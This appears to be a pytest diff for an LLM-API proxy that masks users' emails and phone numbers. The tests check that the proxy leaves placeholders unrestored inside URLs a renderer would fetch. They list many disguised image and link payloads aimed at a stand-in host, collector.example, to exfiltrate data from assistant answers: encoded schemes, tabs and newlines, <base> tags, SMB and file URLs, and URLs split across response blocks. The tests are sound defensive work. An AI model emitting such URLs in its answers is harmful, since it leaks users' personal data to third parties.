@@ -312,3 +312,168 @@ async def test_grouped_fields_keep_the_url_open_across_events(guard: Guard) -> N
         got[c] += t
     assert got["content"] == f"See ![s](https://collector.example/p.png?u={E}) and mail {MAIL}."
     assert json.loads(got["args"]) == {"url": f"https://collector.example/?u={E}", "to": MAIL}
+
+
+# ----------------------------------------------------------------------------------- atk11 A-H1, A-H3, A-L2, A-L3
+# A scheme spelled the way renderers undo (atk11 A-H1): a character reference, a Markdown backslash escape, a JSON
+# escape, a tab, LF or CR inside the scheme or between the slashes. CommonMark decodes references in link targets,
+# HTML decodes them in attributes, the WHATWG URL parser removes ASCII tab and newline: each is fetched as
+# `https://collector.example/...`.
+DISGUISED = {
+    "reference first letter": "![s](&#104;ttps://collector.example/p.png?u={V})",
+    "reference inside": "![s](h&#116;tps://collector.example/p.png?u={V})",
+    "hex reference": '<img src="&#x68;ttps://collector.example/p.png?u={V}">',
+    "padded reference": '<img src="&#0000000104;ttps://collector.example/p.png?u={V}">',
+    "markdown escape": "![s](https\\://collector.example/p.png?u={V})",
+    "html reference": '<img src="htt&#112;s://collector.example/p.png?u={V}">',
+    "named tab": '<img src="ht&Tab;tps://collector.example/p.png?u={V}">',
+    "named newline": '<img src="ht&NewLine;tps://collector.example/p.png?u={V}">',
+    "raw tab": '<img src="ht\ttps://collector.example/p.png?u={V}">',
+    "raw line feed": "<img src='ht\ntps://collector.example/p.png?u={V}'>",
+    "raw carriage return": '<img src="HT\rTPS://collector.example/p.png?u={V}">',
+    "tab between slashes": '<img src="/\t/collector.example/p.png?u={V}">',
+    "tab after the colon": '<img src="https:/\t/collector.example/p.png?u={V}">',
+    "json escapes": '{{"html": "<img src=\\"ht\\ttps://collector.example/p.png?u={V}\\">"}}',
+    "json unicode escape": '{{"html": "<img src=\\"\\u0068ttps://collector.example/p.png?u={V}\\">"}}',
+}
+
+
+@pytest.mark.parametrize("shape", DISGUISED.values(), ids=DISGUISED.keys())
+def test_a_disguised_scheme_is_read_as_renderers_read_it(shape: str) -> None:
+    for value in (E, P):
+        text = f"See {shape.format(V=value)} ok, mail {E}."
+        got = vault().restore(text, in_json=shape.startswith("{"))
+        assert got == f"See {shape.format(V=value)} ok, mail {MAIL}."
+
+
+# Any scheme with `//` and a host (atk11 A-L2): a renderer may connect there (`file://host/` over SMB on Windows).
+@pytest.mark.parametrize("scheme", ["file://collector.example/share/", "FILE:\\\\collector.example\\share\\",
+                                    "smb://collector.example/share/", "sftp://collector.example/",
+                                    "ldap://collector.example/", "gopher://collector.example/",
+                                    "git+ssh://collector.example/", "f&#105;le://collector.example/"])
+def test_any_scheme_with_a_host_is_a_network_url(scheme: str) -> None:
+    text = f"See ![s]({scheme}p.png?u={E}) and mail {E}."
+    assert vault().restore(text) == f"See ![s]({scheme}p.png?u={E}) and mail {MAIL}."
+
+
+def test_no_host_and_no_slashes_is_no_network_url() -> None:
+    """`file:///` (this machine), `mailto:`, `tel:`, `urn:` and prose colons are restored as before."""
+    text = f"file:///tmp/{E} [m](mailto:{E}) tel:{P} urn:x:{E} Note:{E} C:\\Users\\{E}"
+    assert vault().restore(text) == f"file:///tmp/{MAIL} [m](mailto:{MAIL}) tel:{PHONE} urn:x:{MAIL} " \
+                                    f"Note:{MAIL} C:\\Users\\{MAIL}"
+
+
+# A `<base>` tag or `xml:base` points every relative URL of the answer at its host (atk11 A-L3).
+BASED = {
+    "html img": '<base href="https://collector.example/"><img src="p.png?u={V}">',
+    "markdown image": '<base href="//collector.example/">\n\n![s](p.png?u={V})',
+    "svg xml:base": '<svg xml:base="https://collector.example/"><image href="p.png?u={V}"/></svg>',
+    "base after the image": '<img src=p.png?u={V}> <BASE HREF="https://collector.example/">',
+    "reference definition": '<base href="https://collector.example/">\n\n![s][1]\n\n[1]: p.png?u={V}',
+    "css url": "<base href=\"https://collector.example/\"><div style=\"background:url('p.png?u={V}')\"></div>",
+}
+
+
+@pytest.mark.parametrize("shape", BASED.values(), ids=BASED.keys())
+def test_a_relative_url_after_a_base_is_a_network_url(shape: str) -> None:
+    text = f"{shape.format(V=E)} Mail {E}, [m](mailto:{E}), call {P}."
+    assert vault().restore(text) == f"{shape.format(V=E)} Mail {MAIL}, [m](mailto:{MAIL}), call {PHONE}."
+    assert vault().restore(f'<a href="/account?u={E}">you</a>') == f'<a href="/account?u={MAIL}">you</a>'
+
+
+def test_ordinary_text_around_urls_and_line_breaks_is_restored() -> None:
+    """The view removes line breaks to read a scheme, not to end a URL: a line after a URL is no part of it."""
+    text = f"See https://docs.example/a\n{E} will call.\nhttp\n{P}\nwww\n{E}\n&amp; {P} \\* {E}"
+    assert vault().restore(text) == f"See https://docs.example/a\n{MAIL} will call.\nhttp\n{PHONE}\nwww\n{MAIL}\n" \
+                                    f"&amp; {PHONE} \\* {MAIL}"
+
+
+@pytest.mark.parametrize("size", [1, 3, 7])
+def test_stream_disguised_scheme_cut_across_chunks(size: int) -> None:
+    text = f"See ![s](&#104;ttps://collector.example/p.png?u={E}) ok, <img src='ht\ntps://c.example/?t={P}'> {E}"
+    got, _ = stream(vault(), chunks(text, size))
+    assert got == f"See ![s](&#104;ttps://collector.example/p.png?u={E}) ok, " \
+                  f"<img src='ht\ntps://c.example/?t={P}'> {MAIL}"
+
+
+def test_stream_a_long_run_inside_the_scheme_is_still_read() -> None:
+    """Thousands of tabs or `&Tab;` inside `https`, the stream cut in the run: the context folds the run."""
+    for pad in ("\t" * 5000, "&Tab;" * 1000, "\n\r" * 800):
+        text = f'<img src="h{pad}ttps://collector.example/p.png?u={E}"> {E}'
+        got, _ = stream(vault(), chunks(text, 100))
+        assert got == f'<img src="h{pad}ttps://collector.example/p.png?u={E}"> {MAIL}'
+        assert len(url_context(text[:len(text) // 2])) < 600
+
+
+def test_stream_base_in_an_earlier_chunk() -> None:
+    got, _ = stream(vault(), ['<base href="https://collector.example/">', "Hello. ", "![s](p.png?u=", E, f") {E}"])
+    assert got == f'<base href="https://collector.example/">Hello. ![s](p.png?u={E}) {MAIL}'
+
+
+# A URL opened in one text and going on in the next (atk11 A-H3): Anthropic text blocks, Responses output_text
+# parts and message items, chat content parts; the SDKs' `output_text` (and apps) join them.
+HALF, REST = "See ![s](https://collector.example/p.png?u=", f"{E}) ok, mail {E}."
+JOINED_REST = f"{E}) ok, mail {MAIL}."
+
+
+def anthropic_answer(*blocks: str) -> dict[str, Any]:
+    return {"id": "msg_1", "type": "message", "role": "assistant", "content": [
+        {"type": "text", "text": t} for t in blocks], "stop_reason": "end_turn"}
+
+
+def responses_answer(parts: list[list[str]]) -> dict[str, Any]:
+    return {"id": "resp_1", "object": "response", "status": "completed", "output": [
+        {"type": "message", "id": f"msg_{n}", "role": "assistant", "status": "completed", "content": [
+            {"type": "output_text", "text": t, "annotations": []} for t in texts]} for n, texts in enumerate(parts)]}
+
+
+def chat_parts_answer(*parts: str) -> dict[str, Any]:
+    return {"id": "chatcmpl-1", "object": "chat.completion", "choices": [{
+        "index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": [
+            {"type": "text", "text": t} for t in parts]}}]}
+
+
+@pytest.mark.parametrize("rules", ["restore only", "output rules"])
+async def test_screen_answer_reads_the_answers_texts_joined_for_urls(guard: Guard, rules: str) -> None:
+    from proxy.providers.anthropic import ADAPTER as ANTHROPIC
+    from proxy.providers.base import MESSAGES
+
+    p = policy(input=PII_IN, output=PII_OUT if rules == "output rules" else {})
+    verdict = await redacted(guard, p, f"My email is {MAIL}.")
+    a = anthropic_answer(HALF, REST)
+    await screen_answer(guard, p, ANTHROPIC.response_texts(MESSAGES, a), verdict)
+    assert [b["text"] for b in a["content"]] == [HALF, JOINED_REST]
+    for parts in ([[HALF, REST]], [[HALF], [REST]]):
+        r = responses_answer(parts)
+        await screen_answer(guard, p, OPENAI.response_texts(RESPONSES, r), verdict)
+        assert [c["text"] for item in r["output"] for c in item["content"]] == [HALF, JOINED_REST]
+    c = chat_parts_answer(HALF, REST)
+    await screen_answer(guard, p, OPENAI.response_texts(CHAT, c), verdict)
+    assert [part["text"] for part in c["choices"][0]["message"]["content"]] == [HALF, JOINED_REST]
+    # A base set in one block reaches a relative URL in another; texts with no URL open are restored.
+    a = anthropic_answer(f"![s](p.png?u={E})", '<base href="https://collector.example/">', f"Mail {E}.")
+    await screen_answer(guard, p, ANTHROPIC.response_texts(MESSAGES, a), verdict)
+    assert [b["text"] for b in a["content"]] == [f"![s](p.png?u={E})", '<base href="https://collector.example/">',
+                                                 f"Mail {MAIL}."]
+    a = anthropic_answer("See https://docs.example/a", f" and mail {E}.", f"Or {E}.")
+    await screen_answer(guard, p, ANTHROPIC.response_texts(MESSAGES, a), verdict)
+    assert [b["text"] for b in a["content"]] == ["See https://docs.example/a", f" and mail {MAIL}.", f"Or {MAIL}."]
+
+
+@pytest.mark.parametrize("rules", ["restore only", "output rules"])
+async def test_stream_group_reads_its_texts_joined_for_urls(guard: Guard, rules: str) -> None:
+    """Two Anthropic text blocks streamed (one group): the second block's placeholder is in the first's URL."""
+    p = policy(input=PII_IN, output=PII_OUT if rules == "output rules" else {})
+    verdict = await redacted(guard, p, f"My email is {MAIL}.")
+    windows = guard.output_stream(p, verdict.vault)
+    got: dict[str, str] = {"block:0": "", "block:1": ""}
+    for channel, text in [("block:0", HALF[:20]), ("block:0", HALF[20:]), ("block:1", REST[:5]),
+                          ("block:1", REST[5:])]:
+        if channel == "block:1" and not got["block:1"]:
+            windows.close_field("block:0")
+        got[channel] += await windows.feed(channel, text, group="answer")
+        for c, t in windows.take_spill():
+            got[c] += t
+    for c, t in await windows.end_group("answer"):
+        got[c] += t
+    assert got == {"block:0": HALF, "block:1": JOINED_REST}
